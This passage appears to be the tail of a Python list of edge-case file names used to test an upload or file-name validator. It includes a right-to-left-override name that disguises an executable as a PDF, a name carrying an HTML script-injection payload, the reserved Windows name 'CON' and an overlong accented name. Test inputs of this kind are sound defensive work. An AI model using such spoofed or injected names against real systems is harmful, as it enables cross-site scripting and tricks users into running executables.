    "cv\u202efdp.exe",
    '"><script>alert(1)</script>.pdf',
    "CON",
    "é" * 300 + ".docx",
    "",
]
